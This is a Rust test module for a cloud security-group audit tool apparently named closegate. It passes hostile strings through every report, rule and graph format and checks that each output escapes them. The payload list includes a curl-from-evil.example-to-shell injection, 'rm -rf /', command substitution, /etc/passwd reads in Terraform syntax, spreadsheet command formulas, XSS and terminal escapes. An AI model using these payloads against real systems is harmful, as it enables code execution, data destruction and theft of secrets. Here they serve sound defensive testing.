//! Hostile text through every command, read back by the programs that the outputs are for.
//!
//! Each payload is the name, description and tag of one group and interface, the id of another group, interface, rule and
//! network, the name of a log file, a line of it, and an interface that the inventory lacks.

mod commands;
mod readers;

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::path::PathBuf;
use std::sync::LazyLock;

use closegate::emit::FORMATS;
use serde_json::{Value, json};

use crate::common::closegate;

/// Texts that some format, shell, viewer or terminal would take for more than text.
pub(crate) const PAYLOADS: &[&str] = &[
    // Quotes, line ends and escapes.
    "'",
    "\"",
    "' OR ''='",
    "\"; curl evil.example | sh; \"",
    "back\\slash \\\" \\n \\N \\l \\u0041",
    "two\nlines",
    "carriage\rreturn",
    "x\n  verdict     forged\n",
    "tab\there",
    " leading and trailing ",
    // Shell.
    "$(id)",
    "`id`",
    "$'\\x41'",
    "; rm -rf / #",
    "-rf",
    "--dry-run",
    "%s %n %x",
    // Terraform.
    "${file(\"/etc/passwd\")}",
    "%{ if true }x%{ endif }",
    "${a} $%{ if true }%${file(\"/etc/passwd\")} $${ %%{",
    "$$${a} %%%{b}",
    "<<EOT",
    "# comment",
    "/* comment */",
    // CloudFormation and YAML.
    "{{resolve:ssm:x}}",
    "{{resolve:secretsmanager:prod/db:SecretString:password}}",
    "{{{resolve:ssm:x}}}",
    "${AWS::AccountId}",
    "!Sub ${AWS::Region}",
    "!Ref x",
    "Fn::Sub",
    "&anchor",
    "*alias",
    "yes",
    "0123",
    "1:30",
    "null",
    "a: b",
    "---",
    // Spreadsheets.
    "=cmd|' /C calc'!A0",
    " =1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "＝1",
    "x;=1+1",
    // HTML and Markdown.
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "-->",
    "]]>",
    "&lt;b&gt; &#8238;",
    "[x](http://evil.example)",
    "\\[x\\](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "http://evil.example www.evil.example WWW.evil.example",
    "- x",
    "+ x",
    "1. x",
    "1) x",
    "# x",
    "> x",
    "| x |",
    "***",
    "===",
    "~~~",
    "        code",
    "{{constructor.constructor('alert(1)')()}}",
    // SARIF.
    "{0}",
    "{{0}} } {",
    // Terminals and invisible characters.
    "\u{1b}]0;owned\u{7}",
    "\u{1b}[31mred",
    "\u{7f}\u{8}\u{0}nul",
    "\u{9b}31m\u{85}",
    "\u{202e}gnirts\u{202c} \u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}\u{2060}",
    "line\u{2028}paragraph\u{2029}",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "tag\u{e0001}\u{e0041}",
    // Keys, and plain but foreign.
    "__proto__",
    "constructor",
    "Grüße 🔥 日本",
];

/// Characters that no output may hold as they are, written down again so that a change to the program's own table is
/// noticed.
fn is_raw(c: char) -> bool {
    matches!(c, '\0'..='\u{9}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fdd0}'..='\u{fdef}' | '\u{fff9}'..='\u{fffb}'
        | '\u{fffe}' | '\u{ffff}' | '\u{e0000}'..='\u{e007f}')
}

/// The output as text, which has to be free of such characters.
pub(crate) fn clean(what: &str, bytes: &[u8]) -> String {
    let text = String::from_utf8(bytes.to_vec()).unwrap_or_else(|_| panic!("{what} is no UTF-8"));
    if let Some((at, c)) = text.char_indices().find(|&(_, c)| is_raw(c)) {
        let before = text[..at].chars().rev().take(80).collect::<Vec<_>>();
        let before: String = before.into_iter().rev().collect();
        panic!("{what} holds {c:?} behind {before:?}");
    }
    text
}

/// A text with what is visible as `\u{…}` put back, to compare what was written with what was meant.
fn put_back(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("\\u{") {
        let (before, code) = rest.split_at(at);
        let end = code.find('}');
        let c = end.and_then(|end| u32::from_str_radix(&code[3..end], 16).ok());
        let c = c.and_then(char::from_u32);
        out += before;
        if let (Some(c), Some(end)) = (c, end) {
            out.push(c);
            rest = &code[end + 1..];
        } else {
            out += "\\u{";
            rest = &code[3..];
        }
    }
    out + rest
}

/// The id of the group that has a payload for its name.
fn group_named(payload: usize) -> String {
    format!("sg-{payload:017}")
}

/// What was made of the payloads.
pub(crate) struct Estate {
    dir: PathBuf,
    /// What a command printed, by a name for it.
    outputs: BTreeMap<String, Vec<u8>>,
}

static ESTATE: LazyLock<Estate> = LazyLock::new(Estate::new);

/// The one that all tests read.
pub(crate) fn estate() -> &'static Estate {
    &ESTATE
}

impl Estate {
    fn new() -> Self {
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("payloads");
        if dir.exists() {
            fs::remove_dir_all(&dir).unwrap();
        }
        fs::create_dir_all(dir.join("logs")).unwrap();
        inventory(&dir, PAYLOADS);
        logs(&dir, PAYLOADS);
        let mut made = Self {
            dir,
            outputs: BTreeMap::new(),
        };
        made.print(
            "audit",
            &[
                "audit",
                "--flows",
                "logs",
                "--inventory",
                "inventory",
                "--out",
                "run",
            ],
        );
        for format in FORMATS {
            for ids in ["literal", "var", "data"] {
                let arguments = ["rules", "run", "--emit", format.name, "--ids", ids];
                made.write(&format!("rules {} {ids}", format.name), &arguments);
            }
        }
        for format in ["html", "markdown", "sarif", "asff", "ocsf", "csv", "json"] {
            let arguments = ["report", "run", "--format", format];
            made.write(&format!("report {format}"), &arguments);
        }
        for format in ["dot", "mermaid", "graphml", "json"] {
            for level in ["group", "interface"] {
                let arguments = ["graph", "run", "--format", format, "--level", level];
                made.write(&format!("graph {format} {level}"), &arguments);
            }
        }
        made
    }

    /// Runs a command here that has to end with 0 or 1.
    fn run(&self, arguments: &[&str]) -> Vec<u8> {
        let done = closegate()
            .current_dir(&self.dir)
            .args(arguments)
            .output()
            .unwrap();
        assert!(
            matches!(done.status.code(), Some(0 | 1)),
            "{arguments:?}: {}",
            String::from_utf8_lossy(&done.stderr)
        );
        clean(&format!("stderr of {arguments:?}"), &done.stderr);
        done.stdout
    }

    fn print(&mut self, name: &str, arguments: &[&str]) {
        let printed = self.run(arguments);
        self.outputs.insert(name.to_owned(), printed);
    }

    /// The same to standard output and to a file, which have to hold the same bytes.
    fn write(&mut self, name: &str, arguments: &[&str]) {
        let file = format!("{}.out", name.replace(' ', "-"));
        self.print(name, arguments);
        self.run(&[arguments, &["--out", &file]].concat());
        let written = fs::read(self.dir.join(&file)).unwrap();
        assert!(
            self.outputs[name] == written,
            "standard output and --out differ for {name}"
        );
    }

    pub(crate) fn text(&self, name: &str) -> String {
        clean(name, &self.outputs[name])
    }

    fn json(&self, name: &str) -> Value {
        serde_json::from_str(&self.text(name)).unwrap()
    }

    /// A file of the run.
    pub(crate) fn file(&self, name: &str) -> PathBuf {
        self.dir.join("run").join(name)
    }
}

/// A run with some of the payloads, so few that its report has room for every row.
fn run_with(payloads: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("logs")).unwrap();
    inventory(dir.path(), payloads);
    logs(dir.path(), payloads);
    closegate()
        .current_dir(dir.path())
        .args([
            "audit",
            "--flows",
            "logs",
            "--inventory",
            "inventory",
            "--out",
            "run",
        ])
        .assert()
        .success();
    dir
}

fn inventory(dir: &std::path::Path, payloads: &[&str]) {
    let (mut groups, mut rules, mut interfaces, mut networks) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    let open = json!([{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]);
    for (number, text) in payloads.iter().enumerate() {
        let owner = if number % 4 == 0 {
            text
        } else {
            "111122223333"
        };
        let tags = json!([{"Key": "Name", "Value": text}, {"Key": text, "Value": text}]);
        networks.push(json!({"VpcId": text, "CidrBlock": "10.0.0.0/16", "Tags": tags}));
        let peer = format!("peer-{number}");
        for (id, name, owner, interface, third) in [
            (
                &*group_named(number),
                *text,
                "111122223333",
                &*format!("eni-{number}"),
                0,
            ),
            (text, &*peer, owner, text, 1),
        ] {
            groups.push(json!({"GroupId": id, "GroupName": name, "Description": text, "VpcId": text, "OwnerId": owner, "Tags": tags,
                "IpPermissions": [{"IpProtocol": "tcp", "FromPort": 80, "ToPort": 80, "IpRanges": [{"CidrIp": "10.0.0.0/8", "Description": text}]}],
                "IpPermissionsEgress": open}));
            rules.push(json!({"SecurityGroupRuleId": format!("{text}{third}"), "GroupId": id, "IsEgress": true, "IpProtocol": "-1", "FromPort": -1,
                "ToPort": -1, "CidrIpv4": "0.0.0.0/0", "Description": text}));
            interfaces.push(json!({"NetworkInterfaceId": interface, "InterfaceType": "interface", "VpcId": text, "Description": text, "OwnerId": owner,
                "PrivateIpAddress": format!("10.0.{third}.{}", 10 + number), "Groups": [{"GroupId": id}], "TagSet": tags}));
        }
    }
    let place = dir.join("inventory");
    fs::create_dir(&place).unwrap();
    for (key, list) in [
        ("SecurityGroups", groups),
        ("SecurityGroupRules", rules),
        ("NetworkInterfaces", interfaces),
        ("Vpcs", networks),
    ] {
        let document = json!({key: list}).to_string();
        fs::write(place.join(format!("{key}.json")), document).unwrap();
    }
}

fn logs(dir: &std::path::Path, payloads: &[&str]) {
    for (number, text) in payloads.iter().enumerate() {
        let own = 10 + number;
        let word: String = text.chars().filter(|c| !c.is_whitespace()).collect();
        let line: String = text.chars().filter(|c| *c != '\n').collect();
        let mut log =
            "interface-id srcaddr srcport dstaddr dstport protocol action tcp-flags start\n"
                .to_owned();
        for (interface, to, port) in [
            (format!("eni-{number}"), format!("10.0.1.{own}"), 80),
            (format!("eni-{number}"), format!("198.51.100.{own}"), 443),
            (format!("eni-{number}"), format!("198.51.100.{own}"), 6667),
            (word, format!("203.0.113.{own}"), 443),
        ] {
            writeln!(
                log,
                "{interface} 10.0.0.{own} 40000 {to} {port} 6 ACCEPT 2 1000"
            )
            .unwrap();
        }
        writeln!(log, "{line} is no record").unwrap();
        let name: String = text.chars().filter(|c| !matches!(c, '/' | '\0')).collect();
        fs::write(dir.join("logs").join(format!("{number} {name}")), log).unwrap();
    }
}

#[test]
fn what_is_put_back_is_what_was_meant() {
    for text in PAYLOADS {
        assert_eq!(
            put_back(&closegate::net::visible(text, 999)),
            put_back(text)
        );
    }
}
